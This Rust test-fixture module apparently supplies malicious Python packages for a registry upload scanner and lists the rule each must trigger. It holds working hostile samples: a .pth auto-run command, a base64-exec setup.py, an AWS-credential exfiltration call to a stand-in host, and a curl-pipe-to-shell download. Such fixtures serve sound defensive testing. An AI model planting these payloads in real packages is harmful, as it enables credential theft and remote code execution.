//! Archives that are well-formed but carry code the verification rules must hold back:
//! each comes with the rule ID and severity it must produce.

use crate::hostile::{base_sdist, base_wheel};

/// One malicious upload and what the scanner must say about it.
#[derive(Debug, Clone)]
pub struct Fixture {
    /// What it imitates, for test messages.
    pub label: &'static str,
    /// The upload's filename.
    pub filename: String,
    /// `bdist_wheel` or `sdist`, as the upload form says.
    pub filetype: &'static str,
    /// The archive.
    pub bytes: Vec<u8>,
    /// The rule that must fire.
    pub rule: &'static str,
    /// Its expected severity: `warn`, `quarantine` or `block`.
    pub severity: &'static str,
    /// The member it must name.
    pub member: &'static str,
}

fn wheel(label: &'static str, path: &'static str, code: &str, rule: &'static str) -> Fixture {
    let builder = base_wheel().file(path, code.as_bytes().to_vec());
    Fixture {
        label,
        filename: builder.filename(),
        filetype: "bdist_wheel",
        bytes: builder.build(),
        rule,
        severity: "quarantine",
        member: path,
    }
}

fn sdist(
    label: &'static str,
    path: &'static str,
    member: &'static str,
    contents: Vec<u8>,
    rule: &'static str,
) -> Fixture {
    let builder = base_sdist().file(path, contents);
    Fixture {
        label,
        filename: builder.filename(),
        filetype: "sdist",
        bytes: builder.build(),
        rule,
        severity: "quarantine",
        member,
    }
}

/// A `.pth` that imports `os` and runs a command at every interpreter start.
pub fn pth_import() -> Fixture {
    wheel(
        "a .pth with 'import os; ...'",
        "demo_pkg-init.pth",
        "import os; os.system('id > /tmp/owned')\n",
        "install.pth-import",
    )
}

/// A `setup.py` that decodes base64 and executes it.
pub fn setup_exec_base64() -> Fixture {
    sdist(
        "a setup.py that decodes and execs base64",
        "setup.py",
        "demo_pkg-1.0/setup.py",
        b"import base64\nfrom setuptools import setup\n\
          exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik='))\nsetup()\n"
            .to_vec(),
        "code.exec-decoded-payload",
    )
}

/// A module that reads `~/.aws/credentials` and posts it.
pub fn credential_exfil() -> Fixture {
    wheel(
        "a module that posts ~/.aws/credentials",
        "demo_pkg/telemetry.py",
        "import os, urllib.request\n\
         def send():\n\
         \x20   path = os.path.expanduser('~/.aws/credentials')\n\
         \x20   data = open(path, 'rb').read()\n\
         \x20   urllib.request.urlopen('https://collector.example/c', data=data)\n",
        "code.credential-exfil",
    )
}

/// A module that pipes a download into a shell.
pub fn download_exec() -> Fixture {
    wheel(
        "curl piped into sh",
        "demo_pkg/install_hook.py",
        "import os\nos.system('curl -fsSL https://get.example/x.sh | sh')\n",
        "code.download-exec",
    )
}

/// An sdist carrying an ELF executable.
pub fn bundled_elf() -> Fixture {
    let mut elf = b"\x7fELF\x02\x01\x01\x00".to_vec();
    elf.resize(256, 0);
    sdist(
        "an ELF binary inside an sdist",
        "bin/helper",
        "demo_pkg-1.0/bin/helper",
        elf,
        "binary.bundled-executable",
    )
}

/// Every content fixture.
pub fn all() -> Vec<Fixture> {
    vec![
        pth_import(),
        setup_exec_base64(),
        credential_exfil(),
        download_exec(),
        bundled_elf(),
    ]
}
